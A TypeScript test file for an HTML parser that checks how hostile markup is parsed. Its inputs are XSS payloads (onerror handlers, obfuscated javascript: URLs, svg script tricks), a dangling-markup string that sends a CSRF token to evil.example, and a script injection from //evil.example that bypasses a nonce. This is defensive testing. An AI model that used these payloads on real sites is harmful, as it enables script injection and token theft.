// What the core is told of a page: the tree that browsers build of hostile markup.
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { parseHtml, parseHtmlFragment, type FlatNode } from '../../wasm/engine/page/html-parser.js';

// "p#x(b("text"))": names, then what is in them.
function shown(nodes: readonly FlatNode[], root = 0): string {
  const children = nodes.flatMap((node, at) => ('parent' in node && node.parent === root ? [at] : []));
  return children.map((at) => one(nodes, at)).join(' ');
}

function one(nodes: readonly FlatNode[], at: number): string {
  const node = nodes[at];
  assert.ok(node);
  if ('text' in node) return JSON.stringify(node.text);
  const attributes = 'attributes' in node ? (node.attributes ?? []) : [];
  const tag = node.name + attributes.map(([name, value]) => `[${name}=${value}]`).join('');
  const repeated = 'attributes' in node && node.repeated ? '!' : '';
  const inside = shown(nodes, at);
  return tag + repeated + (inside === '' ? '' : `(${inside})`);
}

const page = (html: string): string => shown(parseHtml(html));
const body = (html: string): string => shown(parseHtmlFragment(html, 'body'));

describe('a whole page', () => {
  test('has html, head and body whatever the text has', () => {
    assert.equal(page(''), 'html(head body)');
    assert.equal(page('hello'), 'html(head body("hello"))');
  });

  test('names are in lower case, attributes in order', () => {
    assert.equal(page('<P CLASS=a ID=b>x'), 'html(head body(p[class=a][id=b]("x")))');
  });

  test('noscript holds text, for scripts run here', () => {
    assert.equal(page('<noscript><img src=x></noscript>'), 'html(head(noscript("<img src=x>")) body)');
  });

  test('the document type and comments are no nodes', () => {
    assert.equal(
      page('<!doctype html><!-- a --><body>a<!-- <script>b</script> -->c'),
      'html(head body("a" "c"))',
    );
  });

  test('parents stand before their children', () => {
    const nodes = parseHtml('<table><b>x</b><tr><td><template><i>y</i></template></table><p>z');
    nodes.forEach((node, at) => {
      if ('parent' in node) assert.ok(node.parent < at);
    });
  });
});

describe('what browsers make of', () => {
  for (const [what, html, tree] of [
    ['formatting that overlaps', '<b>1<p>2</b>3</p>', 'b("1") p(b("2") "3")'],
    ['what has no place in a table', '<table><a>x</a><tr><td>y</table>', 'a("x") table(tbody(tr(td("y"))))'],
    ['a script in svg', '<svg><script>alert&lpar;1)</script></svg>', 'svg(script("alert(1)"))'],
    ['a script outside of it', '<script>alert&lpar;1)</script>', 'script("alert&lpar;1)")'],
    ['svg names with capitals', '<svg><foreignObject viewbox=1></svg>', 'svg(foreignobject[viewbox=1])'],
    ['xlink', '<svg><a xlink:href=javascript:1>x</a></svg>', 'svg(a[xlink:href=javascript:1]("x"))'],
    ['attributes without quotes', '<img src=x onerror=alert(1)>', 'img[src=x][onerror=alert(1)]'],
    ['slashes for spaces', '<img/src=x/onerror=1>', 'img[src=x/onerror=1]'],
    ['references in attributes', '<a href="java&#115;cript:1">x</a>', 'a[href=javascript:1]("x")'],
    ['an attribute given twice', '<a id=1 id=2>x</a>', 'a[id=1]!("x")'],
    ['a script tag that closes in a string', '<script>"</script>"', 'script("\\"") "\\""'],
    ['a comment that does not end', 'a<!-- b <script>c</script>', '"a"'],
    [
      'a textarea around a script',
      '<textarea><script>1</script></textarea>',
      'textarea("<script>1</script>")',
    ],
    ['a title that ends inside an attribute', '<title><a alt="</title>x">', 'title("<a alt=\\"") "x\\">"'],
  ] as const) {
    test(what, () => {
      assert.equal(body(html), tree);
    });
  }

  test('dangling markup swallows up to the next quote', () => {
    assert.equal(
      body(`<img src='https://evil.example/?<input name=csrf value=s3cret><p title='x'>`),
      `img[src=https://evil.example/?<input name=csrf value=s3cret><p title=][x'=]`,
    );
  });

  test('an injected tag swallows the script that carries the nonce', () => {
    const tree = body('<script src=//evil.example x="<p></p><script nonce=n1 src=a.js></script>');
    assert.equal(tree, '');
    const closed = body('<script src=//evil.example x=<script nonce=n1 src=a.js></script>');
    assert.equal(closed, 'script[src=//evil.example][x=<script][nonce=n1]!');
  });

  test('only the tag with the repeated attribute is marked', () => {
    assert.equal(body('<p id=1><b id=2 ID=3>x</b></p><i>y</i>'), 'p[id=1](b[id=2]!("x")) i("y")');
  });
});

describe('fragments', () => {
  test('are parsed in the place they go to', () => {
    assert.equal(shown(parseHtmlFragment('<tr><td>x', 'tbody')), 'tr(td("x"))');
    assert.equal(shown(parseHtmlFragment('<tr><td>x', 'div')), '"x"');
    assert.equal(shown(parseHtmlFragment('<p>', 'textarea')), '"<p>"');
    assert.equal(shown(parseHtmlFragment('<circle r=1 />', 'svg')), 'circle[r=1]');
  });

  test('a template holds its content apart, in the node behind it', () => {
    const nodes = parseHtmlFragment('<template id=t><script>1</script></template><p>x', 'body');
    assert.equal(shown(nodes), 'template[id=t] p("x")');
    const at = nodes.findIndex((node) => 'name' in node && node.name === '#content');
    assert.deepEqual(nodes[at], { name: '#content' });
    assert.equal(at, 2);
    assert.equal(shown(nodes, at), 'script("1")');
  });
});

describe('a page nested without end', () => {
  for (const tag of ['<div>', '<b>', '<template>', '<table><tr><td>', '<svg>']) {
    test(`of ${tag} is read to the depth that browsers have, and in time`, () => {
      const began = performance.now();
      const nodes = parseHtml(tag.repeat(100_000) + '<i>last</i>');
      assert.ok(performance.now() - began < 5000);
      assert.ok(nodes.length > 500 && nodes.length < 3000);
      assert.ok(!JSON.stringify(nodes).includes('last'));
    });
  }

  test('keeps all of what is as deep as that', () => {
    const nodes = parseHtml('<div>'.repeat(500) + '<i>last</i>');
    assert.deepEqual(nodes.at(-1), { text: 'last', parent: nodes.length - 2 });
    assert.equal(nodes.length, 506);
  });
});

test('a page with nothing but repeated attributes is read in time', () => {
  const began = performance.now();
  const nodes = parseHtml('<i x=1></i><p x=1 x=2></p>'.repeat(20_000));
  assert.ok(performance.now() - began < 5000);
  assert.equal(nodes.filter((node) => 'repeated' in node).length, 20_000);
});
